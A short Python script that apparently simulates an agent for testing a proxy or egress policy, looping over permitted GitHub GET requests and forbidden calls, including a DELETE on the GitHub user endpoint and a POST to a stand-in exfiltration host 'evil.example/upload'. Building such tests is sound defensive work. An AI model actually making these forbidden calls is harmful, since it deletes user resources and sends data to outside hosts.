"""Stands for an agent: calls every few seconds what it may and what it may not, and knows of no proxy."""

import itertools
import time
import urllib.error
import urllib.request

CALLS = [
    ("GET", "https://api.github.com/zen"),
    ("GET", "https://api.github.com/user"),
    ("DELETE", "https://api.github.com/user"),
    ("POST", "https://evil.example/upload"),
]


def call(method: str, url: str) -> None:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, method=method), timeout=30) as answer:
            print(method, url, answer.status)
    except urllib.error.HTTPError as refusal:
        print(method, url, refusal.code, refusal.read(300).decode(errors="replace"))
    except OSError as failure:
        print(method, url, failure)


for method, url in itertools.cycle(CALLS):
    call(method, url)
    time.sleep(2)
